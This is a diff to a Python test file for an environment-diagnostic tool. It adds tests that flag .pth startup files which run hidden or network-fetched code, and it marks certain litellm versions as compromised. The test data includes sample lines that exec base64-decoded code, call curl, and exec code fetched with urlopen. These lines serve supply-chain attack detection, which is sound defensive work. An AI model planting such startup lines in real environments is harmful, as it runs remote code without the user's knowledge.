@@ -1,5 +1,6 @@
 """The doctor's judgements on what engines and environments tell of themselves."""
 
+import re
 import tomllib
 from pathlib import Path
 
@@ -161,17 +162,35 @@ def test_a_pth_file_that_runs_unknown_code_is_named():
     assert environment.pth_check({"usual.pth": [line + ";" for line in environment.USUAL_PTH]}).status == "ok"
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(...)\"])",
+        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
+        "import os; os.system('curl x')",
+        "import urllib.request as u; exec(u.urlopen('http://x').read())",
+    ],
+)
+def test_a_pth_file_that_reaches_out_fails(line):
+    check = environment.pth_check({"coverage.pth": ["import coverage"], "litellm_init.pth": [line]})
+    assert (check.status, check.seen) == ("fail", "litellm_init.pth")
+
+
 def test_stolen_and_absent_packages_fail():
-    there = dict.fromkeys(environment.PACKAGES, "1.0")
-    assert environment.packages_check(there | {"litellm": None}).status == "ok"
+    there = dict.fromkeys(environment.PACKAGES, "1.0") | environment.LOOKED_AT
+    assert environment.packages_check(there).status == "ok"
+    assert environment.packages_check(there | {"litellm": "1.107.0"}).status == "warn"
     assert environment.packages_check(there | {"litellm": "1.82.8"}).status == "fail"
+    assert environment.packages_check(there | {"litellm": "1.82.7"}).status == "fail"
     assert "scipy" in environment.packages_check(there | {"scipy": None}).hint
 
 
 def test_only_declared_packages_are_asked_for():
     pyproject = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())
-    declared = {text.partition(">")[0].partition("=")[0] for text in pyproject["project"]["dependencies"]}
-    assert set(environment.PACKAGES) <= declared
+    dependencies = pyproject["project"]["dependencies"]
+    assert set(environment.PACKAGES) <= {re.split(r"[\[<>=]", text)[0] for text in dependencies}
+    pins = {re.sub(r"\[.*\]", "", text) for text in dependencies if "==" in text}
+    assert pins == {f"{name}=={version}" for name, version in environment.LOOKED_AT.items()}
 
 
 def test_disks_are_judged_by_what_is_free(tmp_path):
